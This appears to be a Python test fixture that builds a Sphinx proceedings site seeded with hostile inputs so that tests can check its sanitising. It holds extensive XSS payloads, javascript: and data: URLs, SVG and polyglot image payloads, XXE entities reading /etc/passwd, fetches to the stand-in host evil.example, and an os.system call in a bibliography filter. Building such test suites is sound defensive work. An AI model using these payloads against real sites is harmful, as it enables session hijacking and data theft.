"""A site of papers that want to take over the page, built for the tests that open it.

Whatever of them runs says so: it sets `__pwned`, changes the title of the page, opens a dialogue
or asks `evil.example`. Nobody in it exists.
"""

from __future__ import annotations

import base64
import os
import shutil
import struct
import subprocess
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).parents[1] / "roots" / "workshop"
EDITION = "proceedings/alpha-2031"
PAPERS = f"{EDITION}/papers"

EVIL = "https://evil.example"
RUN = f"window.__pwned=1;document.title='PWNED';alert(1);fetch('{EVIL}/x')"
ESCAPED = RUN.replace("'", "&#39;")
DATA = "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
SVG_NAMES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

# What is text in one place is markup in another: all of them are put everywhere.
TEXTS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg onload="{RUN}">',
    f"'><img src='{EVIL}/x.png'>",
    f"</title></script></style><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<!--><script>{RUN}</script>",
    "--></article></main></body><base href='https://evil.example/'>",
    f'<a href="javascript:{RUN}">hostile</a>',
    f"[hostile](javascript:{RUN.replace('(', '%28').replace(')', '%29')})",
    rf"\(\href{{javascript:{RUN}}}{{x}}\) \[\style{{position:fixed}}{{x}}\] $\cssId{{a}}{{x}}$",
    f"{{{{ 6 * 7 }}}} {{% raw %}} ${{{RUN}}} `${{{RUN}}}`",
    "{raw-html}`<b onclick=x>` :::{raw} html",
    f"]]><script>{RUN}</script><![CDATA[",
    "\u202eegap eht sesrever\u202c \u2066 \ufeff",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"javascript:{RUN}",
    f"{EVIL}/?<script>{RUN}</script>",
]

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>import '{EVIL}/x.js'</script>",
    f'<img src=x onerror="{RUN}">',
    f'<img src="x" alt="`" onload=`{RUN}`>',
    f"<img/src/onerror={ESCAPED}>",
    f"<img src={EVIL}/x.png>",
    f'<img srcset="{EVIL}/x.png 2x" src=dot.png>',
    f'<picture><source srcset="{EVIL}/x.png"><img src=dot.png></picture>',
    f'<video poster="{EVIL}/x.png" autoplay onplay="{RUN}"><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f'<svg><script>{RUN}</script><use href="data:image/svg+xml,x#a"/></svg>',
    f"<svg><a xlink:href='javascript:{RUN}'><text>hostile</text></a></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<iframe srcdoc="<script>{ESCAPED}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="{DATA}"></object>',
    f'<embed src="{DATA}">',
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 "
        f"onerror={ESCAPED}>'>"
    ),
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<link rel=prefetch href='{EVIL}/x'>",
    f"<style>@import '{EVIL}/x.css'; * {{position: fixed; background: url({EVIL}/x.png)}}</style>",
    f"<form action='{EVIL}'><input type=submit autofocus onfocus=\"{RUN}\"></form>",
    f"<button formaction='javascript:{RUN}'>hostile</button>",
    f'<a href="javascript:{RUN}">hostile link</a>',
    f'<a href=" java\nscript:{RUN}">hostile link</a>',
    f'<a href="&#1;javascript:{RUN}">hostile link</a>',
    f'<a href="java&Tab;script&colon;{RUN}">hostile link</a>',
    f'<a href="{DATA}">hostile link</a>',
    f"<a href='vbscript:{RUN}'>hostile link</a>",
    f"<a href='blob:{EVIL}/x'>hostile link</a>",
    f"<a href='view-source:{EVIL}'>hostile link</a>",
    f"<a href='https://example.org/' ping='{EVIL}/x' target=_top>a link</a>",
    f'<a href=\'https://example.org/\' onclick="{RUN}" onmouseover="{RUN}">a link</a>',
    f'<b onclick="{RUN}" style="position:fixed;inset:0;z-index:9999">bold</b>',
    '<span style="position:fixed;inset:0" class="fixed-top vh-100">words</span>',
    '<div class="modal-backdrop position-fixed vw-100 vh-100">\n\nWords.\n\n</div>',
    '<p id="pst-primary-sidebar-modal">Words.</p>',
    f'<body onload="{RUN}" background="{EVIL}/x.png">',
    f'<table background="{EVIL}/x.png"><tr><td background="{EVIL}/x.png">a</td></tr></table>',
    f'<details open ontoggle="{RUN}"><summary>More</summary>\n\nWords.\n\n</details>',
    f'<marquee onstart="{RUN}">words</marquee>',
    "<dialog open>words</dialog>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={ESCAPED}>"></noscript>',
    f'<xmp><p title="</xmp><script>{RUN}</script>">',
    f'<textarea><p title="</textarea><script>{RUN}</script>">',
    f"<plaintext><script>{RUN}</script>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<!-- --!><script>{RUN}</script> -->",
    f"<?xml-stylesheet href='{EVIL}/x.xsl'?>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<sup title="\'"><script>{RUN}</script></sup>',
    f'<abbr title="&quot;><script>{RUN}</script>">A</abbr>',
    f"<img src=dot.png alt='\"><script>{RUN}</script>' title=\"'><script>{RUN}</script>\">",
    f"<img src=dot.png alt=dots width='1px;position:fixed;background:url({EVIL}/x)' height=9999>",
]

ADDRESSES = [
    "javascript:__pwned=1",
    "JaVaScRiPt:__pwned=1",
    "&#106;avascript:__pwned=1",
    "java&Tab;script:__pwned=1",
    "\x01javascript:__pwned=1",
    "javascript&colon;__pwned=1",
    "//javascript:__pwned=1",
    "data:text/html,&lt;script>__pwned=1&lt;/script>",
    "vbscript:x",
    "file:///etc/passwd",
    "view-source:https://evil.example/",
    "blob:https://evil.example/x",
    "filesystem:x",
    "inv:javascript:x",
    "wiki:javascript:x",
    "myst:javascript:x",
    "path:javascript:x",
    "project:javascript:x",
    'https://evil.example/"onmouseover="__pwned=1',
    "%6aavascript:__pwned=1",
    "\\javascript:__pwned=1",
]

FORMULAS = [
    r"\href{javascript:__pwned=1}{x}",
    r"\url{javascript:__pwned=1}",
    r"\style{position:fixed;inset:0;background:url(https://evil.example/x.png)}{x}",
    r"\class{fixed-top vh-100}{x}",
    r"\cssId{pst-search-dialog}{x}",
    r"\data{x=1}{x}",
    r"\htmlStyle{position:fixed}{x}",
    r"\htmlClass{modal}{x}",
    r"\includegraphics{https://evil.example/x.png}",
    r"\unicode[https://evil.example/x]{x41}",
    r"\mmlToken{mi}[href=javascript:x onclick=__pwned=1]{x}",
    r"\require{html}x",
    r"\text{</annotation></semantics></math><script>__pwned=1</script>}",
    r"\mathrm{<img src=x onerror=__pwned=1>}",
    r"\text{<img src=x onerror=__pwned=1>} \tag{<script>__pwned=1</script>}",
    r"\operatorname{<svg onload=__pwned=1>}",
    r"\color{red;position:fixed}{x} \textcolor{url(https://evil.example/x)}{y}",
    r"\colorbox{red\"onclick=\"__pwned=1}{x} \rule{99999em}{99999em}",
    r"\hspace{-9999em}\raise 9999em{x}\kern-999em",
    r"\def\x{\href{javascript:__pwned=1}{x}}\x",
    r"\csname href\endcsname{javascript:__pwned=1}{x}",
    r"\newcommand{\html}{<script>__pwned=1</script>}\html",
    r"x</script><script>__pwned=1</script>",
    r"x<!--<script>__pwned=1</script>-->",
    r"a_{b}^{c} \frac{1}{2}",
    r"\Huge\Huge\overbrace{\hspace{300em}}^{\vspace{99em}} \phantom{x}\smash{y}\llap{zzzzzzzzzzz}",
]

# Those by which Bootstrap, the theme, Font Awesome and sphinx-design take things out of the text.
CLASSES = [
    "position-fixed",
    "position-absolute",
    "position-sticky",
    "fixed-top",
    "fixed-bottom",
    "sticky-top",
    "top-0",
    "start-0",
    "vw-100",
    "vh-100",
    "min-vh-100",
    "w-100 h-100",
    "modal",
    "modal d-block",
    "modal-backdrop",
    "modal-backdrop show",
    "modal-open",
    "offcanvas",
    "offcanvas show",
    "offcanvas-backdrop",
    "toast-container",
    "tooltip show",
    "popover",
    "dropdown-menu show",
    "stretched-link",
    "sd-stretched-link",
    "sd-card-img-overlay",
    "card-img-overlay",
    "carousel-caption",
    "carousel-control-next",
    "carousel-indicators",
    "visually-hidden",
    "visually-hidden-focusable",
    "skip-link",
    "pst-sticky-header",
    "bd-header",
    "bd-header-announcement",
    "bd-sidebar-primary",
    "bd-sidebar-secondary",
    "bd-article-container",
    "search-button__wrapper show",
    "search-button__overlay",
    "pst-async-banner-revealer d-none",
    "ratio",
    "invisible",
    "overflow-visible z-3",
    "ms-n5 mt-n5",
    "translate-middle",
    "fa-stack-2x",
    "fa-spin fa-10x",
    "btn-close",
    "headerlink",
    "sp-filter",
    "sp-search",
    "sp-author",
    "tex2jax_process",
    "mathjax_process",
    "form-floating",
    "btn-check",
    "nav-link active",
    "toctree-wrapper",
    "search-result",
    "version-warning",
    "admonition-title",
    "sidebar",
    "no-search",
    "copybtn",
    "lm-line",
]

# Those of the theme, which its scripts and styles find by them; names of what scripts look for.
IDENTIFIERS = [
    "pst-primary-sidebar-modal",
    "pst-secondary-sidebar-modal",
    "pst-primary-sidebar",
    "pst-secondary-sidebar",
    "pst-search-dialog",
    "pst-back-to-top",
    "pst-skip-link",
    "pst-scroll-pixel-helper",
    "pst-primary-sidebar-checkbox",
    "pst-collapse-sidebar-button",
    "pst-page-navigation-heading-2",
    "pst-page-toc-nav",
    "search-input",
    "search-results",
    "search-progress",
    "search-summary",
    "search-form",
    "searchbox",
    "main-content",
    "bodywrap",
    "rtd-footer-container",
    "searchlabel",
    "main-menu",
    "top",
    "html",
    "body",
    "document",
    "location",
    "exports",
    "module",
    "define",
    "require",
    "process",
    "self",
    "stemmer",
    "search",
    "searchindex",
    "documentation-options",
    "bootstrap",
    "jquery",
    "scorer",
    "splitquery",
    "theme",
    "navbar",
    "sidebar",
    "toc",
    "footer",
    "header",
    "attributes",
    "children",
    "action",
]

DIRECTIVES = [
    "```{raw} html\n<script>__pwned=1</script>\n```",
    "```{eval-rst}\n.. raw:: html\n\n   <script>__pwned=1</script>\n```",
    "```{include} hostile.html\n```",
    "```{include} hostile.html\n:literal:\n```",
    "```{include} hostile.svg\n:parser: rst\n```",
    "```{literalinclude} hostile.html\n:language: html\n```",
    "```{csv-table} <script>__pwned=1</script>\n:file: hostile.csv\n```",
    (
        "```{code-block} html\n:caption: <script>__pwned=1</script>\n:name: x\n<script>"
        "__pwned=1</script>\n```"
    ),
    "```{meta}\n:http-equiv=refresh: 0;url=https://evil.example/\n```",
    "```{image} dot.png\n:target: javascript:__pwned=1\n:alt: a\n```",
    "```{image} dot.png\n:target: java\tscript:__pwned=1\n:alt: a\n```",
    (
        "```{figure} dot.png\n:target: data:text/html,<script>__pwned=1</script>\n:alt: a\n\n"
        "<script>__pwned=1</script>\n```"
    ),
    '```{figure} dot.png\n:width: 100vw;position:fixed\n:alt: "><script>x</script>\n\nWords.\n```',
    "```{image} dot.png\n:width: 9999px\n:height: 9999px\n:alt: dots\n```",
    "```{image} dot.png\n:scale: 99999\n:alt: dots\n```",
    "```{image} https://evil.example/x.png\n:alt: dots\n```",
    "```{image} //evil.example/x.png\n:alt: dots\n```",
    "```{figure} https://evil.example/x.png\n:alt: dots\n\nWords.\n```",
    "```{card} <script>__pwned=1</script>\n:link: javascript:__pwned=1\nWords.\n```",
    "```{card} T\n:img-top: https://evil.example/x.png\n:img-bottom: //evil.example/y.png\nW.\n```",
    "```{card} T\n:img-background: https://evil.example/x.png\nWords.\n```",
    '```{card} T\n:img-top: hostile.svg\n:img-alt: "><script>__pwned=1</script>\nWords.\n```',
    "```{card} T\n:img-background: javascript:__pwned=1\n:width: 100%\nWords.\n```",
    '```{card} T\n:link: https://example.org/\n:link-alt: "><script>__pwned=1</script>\nW.\n```',
    (
        "````{grid} 1 2 3 4\n```{grid-item-card} T\n:link: vbscript:x\n"
        ":img-top: //evil.example/x\nW\n"
        "```\n````"
    ),
    "```{button-link} javascript:__pwned=1\nhostile\n```",
    "```{button-link} https://example.org/\n:click-parent:\nhostile\n```",
    "```{button-ref} javascript:__pwned=1\n:click-parent:\nhostile\n```",
    "```{dropdown} <script>__pwned=1</script>\n:open:\n:icon: <svg/onload=x>\nWords.\n```",
    (
        '````{tab-set}\n```{tab-item} <img src=x onerror=__pwned=1>\n:sync: "><script>\nWords.\n'
        "```\n````"
    ),
    "```{admonition} <script>__pwned=1</script>\nWords.\n```",
    "```{epigraph}\nWords.\n\n-- <script>__pwned=1</script>\n```",
    "```{glossary}\n<script>__pwned=1</script>\n  <img src=x onerror=__pwned=1>\n```",
    "```{index} single: <script>__pwned=1</script>; <img src=x onerror=__pwned=1>\n```",
    (
        "```{toctree}\n<script>__pwned=1</script> <javascript:__pwned=1>\n"
        "<img src=x onerror=__pwned=1> <https://evil.example/>\n```"
    ),
    "```{contents} <script>__pwned=1</script>\n```",
    "```{topic} <script>__pwned=1</script>\nWords.\n```",
    "```{sidebar} <script>__pwned=1</script>\nWords.\n```",
    "```{rubric} <script>__pwned=1</script>\n```",
    "```{list-table} <script>__pwned=1</script>\n* - <img src=x onerror=__pwned=1>\n```",
    "```{math}\n:label: <script>__pwned=1</script>\nx\n```",
    "```{only} html\n<script>__pwned=1</script>\n```",
    "```{highlight} html\n```",
    "```{parsed-literal}\n<script>__pwned=1</script> [x](javascript:__pwned=1)\n```",
    "```{versionadded} <script>__pwned=1</script>\n<img src=x onerror=__pwned=1>\n```",
    ":::{div}\n:style: position:fixed;inset:0;background:url(https://evil.example/x)\nWords.\n:::",
    "```{container} position-fixed\n:style: position:fixed\nWords.\n```",
    "```{speaker} ada-example\n:url: javascript:__pwned=1\n:affiliation-url: data:text/html,x\n```",
    (
        "```{speaker}\n:name: <script>__pwned=1</script>\n:role: <script>__pwned=1</script>\n"
        ":affiliation: <img src=x onerror=__pwned=1>\n:url: javascript:__pwned=1\n```"
    ),
    "```{paper-list}\n:empty: <script>__pwned=1</script>\n:session: <script>\n```",
    "```{toctree}\n:caption: <script>__pwned=1</script>\n:class: position-fixed\n/index\n```",
    '```{button-link} https://example.org/\n:tooltip: "><script>__pwned=1</script>\nwords\n```',
    "```{bibliography}\n:filter: __import__('os').system('false')\n:style: ../x\n```",
    "```{bibliography}\n:filter: title % '('\n```",
    "```{bibliography}\n:filter: 1 < 'x'\n```",
    "```{code} html\n:class: position-fixed\n:name: pst-search-dialog\n<b>\n```",
    "```{math}\n:class: position-fixed vw-100\nx\n```",
    "```{table} T\n:class: modal d-block\n:width: 9999px\n\n| a | b |\n| - | - |\n| c | d |\n```",
    "```{role} evil(raw)\n:format: html\n```\n\n{evil}`<script>__pwned=1</script>`",
    "```{default-role} raw\n```",
    "```{statement}\n:person: <script>__pwned=1</script>\n\nWords.\n```",
    '```{graphviz}\ndigraph { a [URL="javascript:__pwned=1"] }\n```',
    '```{mermaid}\ngraph TD; click A "javascript:__pwned=1"\n```',
    "```{video} https://evil.example/x.mp4\n```",
    "```{iframe} https://evil.example/\n```",
]

ROLES = [
    "{raw-html}`<script>__pwned=1</script>`",
    "{octicon}`alert;1em;position-fixed vw-100`",
    "{octicon}`alert;9999em`",
    '{octicon}`alert;1em;"><script>__pwned=1</script>`',
    '{material-outlined}`flag;1em;"onload="__pwned=1`',
    '{octicon}`alert;1em;"/><img/src=x/onerror=__pwned=1>`',
    '{fas}`flag;"><script>__pwned=1</script>`',
    '{fas}`"><script>__pwned=1</script>`',
    "{fas}`flag position-fixed vh-100`",
    "{fas}`flag;position-fixed vh-100`",
    "{fa}`flag;modal-backdrop show`",
    "{material-regular}`flag;9999em;offcanvas show`",
    "{bdg-link-primary}`hostile <javascript:__pwned=1>`",
    "{bdg-ref-primary}`javascript:__pwned=1`",
    '{bdg-link-primary}`https://example.org;"><script>__pwned=1</script>`',
    "{bdg}`<script>__pwned=1</script>`",
    '{abbr}`A ("><script>__pwned=1</script>)`',
    "{download}`hostile.html`",
    "{download}`<script>__pwned=1</script> <hostile.svg>`",
    "{download}`hostile.xml`",
    "{download}`hostile.xhtml`",
    "{download}`hostile.txt`",
    "{download}`hostile.csv`",
    "{download}`hostile.json`",
    "{download}`hostile.pdf`",
    "{download}`hostile.js`",
    "{download}`hostile`",
    "{download}`polyglot.gif`",
    "{download}`javascript:__pwned=1`",
    "{download}`https://evil.example/x.exe`",
    "{ref}`hostile <javascript:__pwned=1>`",
    "{doc}`hostile <javascript:__pwned=1>`",
    "{any}`javascript:__pwned=1`",
    "{term}`<script>__pwned=1</script>`",
    '{rfc}`1#"onclick="__pwned=1`',
    "{pep}`8#javascript:__pwned=1`",
    '{cve}`2031-1"onclick="__pwned=1`',
    '{manpage}`x(1)"onclick`',
    "{index}`<script>__pwned=1</script>`",
    "{math}`\\href{javascript:__pwned=1}{x}`",
    "{person}`<script>__pwned=1</script>`",
    "{paper}`javascript:__pwned=1`",
    "{kbd}`<script>__pwned=1</script>`",
    "{file}`{<script>__pwned=1</script>}`",
    "{samp}`{<img src=x onerror=__pwned=1>}`",
    "{menuselection}`<script> --> <img src=x onerror=__pwned=1>`",
    "{code}`<script>__pwned=1</script>`",
    "{cite}`evil` {cite:t}`evil2` {footcite}`evil`",
]

DRAWINGS = {
    "script": f"<script>{RUN}</script>",
    "load": f'<g onload="{RUN}"><rect width="9" height="9" onclick="{RUN}"/></g>',
    "foreign": f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
    f'<iframe src="{EVIL}/"/><img src="x" onerror="{RUN}"/></body></foreignObject>',
    "use": f'<use xlink:href="{EVIL}/x.svg#a"/><use href="data:image/svg+xml,x#a"/>',
    "image": f'<image href="{EVIL}/x.png" width="9" height="9"/>',
    "import": f"<style>@import '{EVIL}/x.css'; @font-face {{font-family: x; "
    f"src: url({EVIL}/x.woff)}} rect {{fill: url({EVIL}/x.svg#a); font-family: x}}</style>"
    '<text y="9">words</text>',
    "style": f'<rect width="9" height="9" style="fill: url({EVIL}/x.svg#a); '
    f'background: image-set(&quot;{EVIL}/x.png&quot; 1x)"/>',
    "escape": f'<style>rect {{fill: u\\72l("{EVIL}/x.svg#a")}}</style><rect width="9" height="9"/>',
    "link": f'<a xlink:href="javascript:{RUN}"><rect width="99" height="99"/></a>',
    "animate": '<a><animate attributeName="href" values="javascript:__pwned=1"/>'
    '<set attributeName="xlink:href" to="javascript:__pwned=1"/><text y="9">x</text></a>',
    "begin": f'<animate attributeName="x" begin="0s" dur="1s" onbegin="{RUN}"/>',
    "handler": f'<handler type="text/javascript">{RUN}</handler>',
    "filter": f'<filter id="f"><feImage href="{EVIL}/x.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/>',
    "markers": f'<path d="M0 0" marker-end="url({EVIL}/x.svg#a)" cursor="url({EVIL}/x.cur)"/>',
    "namespace": f'<x:script xmlns:x="http://www.w3.org/2000/svg">{RUN}</x:script>',
    "html": f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>',
    "iframe": f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:{RUN}"/>',
    "refresh": '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
    f'content="0;url={EVIL}/"/>',
    "text": f"<text>&lt;/text&gt;&lt;script&gt;{RUN}&lt;/script&gt;</text>",
    "comment": f"<!-- --><rect/><!--><script>{RUN}</script>-->",
    "cdata": f"<style><![CDATA[</style><script>{RUN}</script>]]></style>",
    "title": f"<title>&lt;script&gt;{RUN}&lt;/script&gt;</title>",
    "harmless": '<rect width="9" height="9"/>',
}
PROLOGS = {
    "stylesheet": f'<?xml-stylesheet href="{EVIL}/x.xsl" type="text/xsl"?>',
    "css": f'<?xml-stylesheet href="{EVIL}/x.css" type="text/css"?>',
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "attlist": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{ESCAPED}">]>',
    "dtd": f'<!DOCTYPE svg SYSTEM "{EVIL}/x.dtd">',
}
PAGE = f"<!DOCTYPE html><html><body><script>{RUN}</script></body></html>"
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'


def dot() -> bytes:
    """Return a picture that ends in a page."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)

    header = struct.pack(">IIBBBBB", 2, 2, 8, 0, 0, 0, 0)
    body = chunk(b"tEXt", b"Comment\0" + PAGE.encode())
    rows = chunk(b"IDAT", zlib.compress(b"\0\0\xff\0\xff\0"))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + rows + chunk(b"IEND", b"")


@dataclass(frozen=True)
class Site:
    """A site, and what was said while it was built."""

    folder: Path
    log: str


def build(folder: Path) -> Site:
    """Build the site below a folder."""
    source, out = folder / "source", folder / "html"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns("__pycache__"))
    _files(source / PAPERS)
    _people(source / "proceedings" / "people.yml")
    _event(source / EDITION / "event.yml")
    papers = {**_bodies(), **{f"text-{n}": "Words." for n in range(len(TEXTS))}}
    for number, (name, body) in enumerate(papers.items()):
        text = TEXTS[number % len(TEXTS)]
        front = _front(text, body, name) if name.startswith("text-") else _plain(body, name)
        (source / PAPERS / f"{name}.md").write_text(front, encoding="utf-8", newline="\n")
    with (source / "conf.py").open("a", encoding="utf-8") as file:
        file.write('html_context = {"default_mode": "light"}\n')
        file.write('html_baseurl = "https://samples.example.org/"\n')
        file.write('exclude_patterns = ["_build"]\n')
    index = source / EDITION / "index.md"
    pages = "\n```{paper-list}\n```\n\n```{toctree}\n:glob:\n\npapers/*\n```\n"
    index.write_text(index.read_text(encoding="utf-8") + pages, encoding="utf-8")
    done = subprocess.run(  # our own command
        [sys.executable, "-m", "sphinx", "-q", "-b", "dirhtml", str(source), str(out)],
        check=False,  # It fails, for there are errors; that it comes to its end is what counts.
        env={name: value for name, value in os.environ.items() if "READTHEDOCS" not in name},
        stderr=subprocess.PIPE,
        text=True,
    )
    assert (out / "searchindex.js").is_file(), done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    return Site(out, done.stderr)


def quoted(text: str) -> str:
    """Return a text as YAML."""
    return "'" + text.replace("'", "''") + "'"


def _front(text: str, body: str, name: str) -> str:
    said = quoted(text)
    lines = [
        *("---", f"title: {quoted(f'Hostile {name} {text}')}", f"subtitle: {said}"),
        *("authors:", f"  - {{person: evil, affiliations: [{said}], email: evil@example.org}}"),
        *(f"abstract: {said}", f"keywords: [{said}, hostile]", f"awards: [{said}]"),
        *("track: tiny", "session: evil", 'links: {code: "https://example.org/?<script>"}'),
        *("math:", f"  evil: {quoted(FORMULAS[0])}", "---", ""),
    ]
    return "\n".join(lines) + body + "\n"


def _plain(body: str, name: str) -> str:
    front = f"---\ntitle: Hostile {name}\nauthors: [ada-example]\n"
    return f"{front}math:\n  evil: {quoted(FORMULAS[0])}\n---\n" + body + "\n"


def _many(parts: list[str]) -> str:
    return "\n\n".join(f"Before.\n\n{part}\n\nAfter." for part in parts)


def _bodies() -> dict[str, str]:
    texts = [text for text in TEXTS if "\u202e" not in text]
    links = [
        line
        for address in ADDRESSES
        for line in (
            f"[hostile]({address})",
            f'[hostile](<{address}> "\'><script>__pwned=1</script>")',
            f"<{address}>",
            f"![hostile]({address})",
            f"[hostile][a]\n\n[a]: {address}",
        )
    ]
    attributes = [
        line
        for names in CLASSES
        for marks in ["{" + " ".join(f".{name}" for name in names.split()) + "}"]
        for line in (
            (
                f"[words]{marks} and `code`{marks} and ![dots](dot.png){marks}"
                f" and [link](https://example.org/){marks} and $x${marks}"
            ),
        )
    ]
    options = [
        part
        for names in CLASSES
        for part in (
            f":::{{admonition}} T\n:class: {names}\nWords.\n:::",
            f":::{{container}} {names}\nWords.\n:::",
            f":::{{div}} {names}\nWords.\n:::",
            f"```{{class}} {names}\n```\n\nWords.",
            f"```{{figure}} dot.png\n:figclass: {names}\n:class: {names}\n:alt: dots\n\nW.\n```",
            f"```{{image}} dot.png\n:class: {names}\n:alt: dots\n```",
        )
    ]
    design = [
        part
        for names in CLASSES
        for part in (
            (
                f"```{{card}} T\n:class-card: {names}\n:class-body: {names}\n"
                f":class-title: {names}\n:class-header: {names}\n"
                f":class-footer: {names}\nH\n^^^\nWords.\n+++\nF\n```"
            ),
            (
                f"````{{grid}} 2\n:class-container: {names}\n:class-row: {names}\n"
                f"```{{grid-item}}\n:class: {names}\nWords.\n```\n````"
            ),
            (
                f"```{{dropdown}} T\n:class-container: {names}\n:class-title: {names}\n"
                f":class-body: {names}\nWords.\n```"
            ),
            f"```{{button-link}} https://example.org/\n:class: {names}\nwords\n```",
        )
    ]
    names = [f":::{name}\nWords.\n:::" for names in CLASSES for name in names.split()]
    return {
        "texts": _many(
            [
                part
                for text in texts
                for part in (
                    text,
                    f"## {text}",
                    f"- {text}\n- *{text}*",
                    f"> {text}",
                    f"| {text.replace('|', '')} | b |\n| - | - |\n| c | {text.replace('|', '')} |",
                    f"Note[^{texts.index(text)}].\n\n[^{texts.index(text)}]: {text}",
                    f'![{text}](dot.png "{text.replace(chr(34), "")}")',
                    f"```\n{text}\n```",
                    f"```{{{text}}}\n{text}\n```",
                    f"`{text}`",
                    f"```{{figure}} dot.png\n:alt: {text}\n:name: {text}\n\n{text}\n```",
                )
            ]
        ),
        "html": _many([part for part in HTML if not part.startswith("<!--")]),
        "html-line": _many([f"Words {part} words." for part in HTML]),
        **{f"html-{n}": f"Before.\n\n{part}\n\nAfter." for n, part in enumerate(HTML)},
        "links": _many(links),
        "formulas": _many([f"${one}$" for one in FORMULAS]),
        "displayed": _many([f"$$\n{one}\n$$" for one in FORMULAS]),
        "amsmath": _many([f"\\begin{{align}}\n{one}\n\\end{{align}}" for one in FORMULAS]),
        "delimiters": _many([f"\\({one}\\) \\\\({one}\\\\) \\\\[{one}\\\\]" for one in FORMULAS]),
        "macros": "$\\evil$\n\n$$x = \\evil$$",
        "directives": _many(DIRECTIVES),
        "roles": _many(ROLES) + "\n\n```{bibliography}\n```\n\n```{footbibliography}\n```",
        "attributes": _many(attributes),
        "options": _many(options),
        "design": _many(design),
        "boxes": _many(names),
        "identifiers": _many([f"## {name}\n\n[words]{{#{name}}}" for name in IDENTIFIERS]),
        "labels": _many([f"({name})=\nWords." for name in IDENTIFIERS]),
        "anchors": _many([f'<div id="{name}">\n\nWords.\n\n</div>' for name in IDENTIFIERS]),
        "drawings": _many(
            [
                f"![dots](drawing-{name}.svg)\n\n{{download}}`drawing-{name}.svg`"
                for name in [*DRAWINGS, *PROLOGS]
            ]
        ),
        "pictures": _many(
            [
                *("![dots](polyglot.gif)", "![dots](polyglot.png)", "![dots](page.png)"),
                *("![dots](hostile.html)", "![dots](hostile.svg)", "![dots](drawing.png)"),
                *(f"![dots]({EVIL}/x.png)", "![dots](//evil.example/x.png)", f"![dots]({DATA})"),
                *("![dots](\\\\\\\\evil.example/x.png)", "![dots](/\\\\evil.example/x.png)"),
            ]
        ),
    }


def _files(folder: Path) -> None:
    for name in ("html", "xhtml", "xml", "txt", "csv", "json", "pdf", "js"):
        text = XHTML if name in {"xhtml", "xml"} else PAGE
        (folder / f"hostile.{name}").write_text(text, encoding="utf-8")
    (folder / "hostile").write_text(PAGE, encoding="utf-8")
    (folder / "page.png").write_text(PAGE, encoding="utf-8")
    (folder / "dot.png").write_bytes(dot())
    (folder / "polyglot.png").write_bytes(dot() + PAGE.encode())
    gif = b"GIF89a/*\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xfe" + b"\x08*/=1;//\x20" + b"\0"
    picture = b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
    (folder / "polyglot.gif").write_bytes(gif + picture + PAGE.encode())
    for name, inside in DRAWINGS.items():
        drawing = f'<svg {SVG_NAMES} viewBox="0 0 99 99">{inside}</svg>'
        (folder / f"drawing-{name}.svg").write_text(drawing, encoding="utf-8")
    for name, prolog in PROLOGS.items():
        drawing = f'{prolog}<svg {SVG_NAMES} viewBox="0 0 9 9"><text>a</text></svg>'
        (folder / f"drawing-{name}.svg").write_text(drawing, encoding="utf-8")
    for name in ("hostile.svg", "drawing.png"):
        shutil.copyfile(folder / "drawing-script.svg", folder / name)
    fields = f"title={{{TEXTS[0]}}}, note={{{TEXTS[1]}}}, howpublished={{\\url{{javascript:x}}}}"
    works = [
        (
            f"@misc{{evil, author={{<script>{RUN}</script>}}, {fields}, year=2031, "
            'url={javascript:__pwned=1}, doi={10.1/"onclick="x}}'
        ),
        (
            f"@article{{evil2, author={{Evil, Eve}}, {fields}, year=2031, journal={{<img src=x "
            "onerror=__pwned=1>}, url={data:text/html,x}, eprint={javascript:x}}"
        ),
    ]
    (folder / "roles.bib").write_text("\n".join(works), encoding="utf-8")


def _people(path: Path) -> None:
    said = quoted(TEXTS[0])
    text = (
        f"evil:\n  name: {{given: {said}, family: {quoted(TEXTS[1])}}}\n"
        f"  affiliations: [{{name: {quoted(TEXTS[2])}, place: {said}, "
        'url: "https://example.org/?<script>"}]\n'
        f"  biography: {quoted(' '.join(TEXTS[:4]))}\n"
    )
    with path.open("a", encoding="utf-8") as file:
        file.write(text)


def _event(path: Path) -> None:
    said = quoted(TEXTS[0])
    text = path.read_text(encoding="utf-8")
    session = (
        f"sessions:\n  - id: evil\n    title: {quoted('Hostile ' + TEXTS[0])}\n"
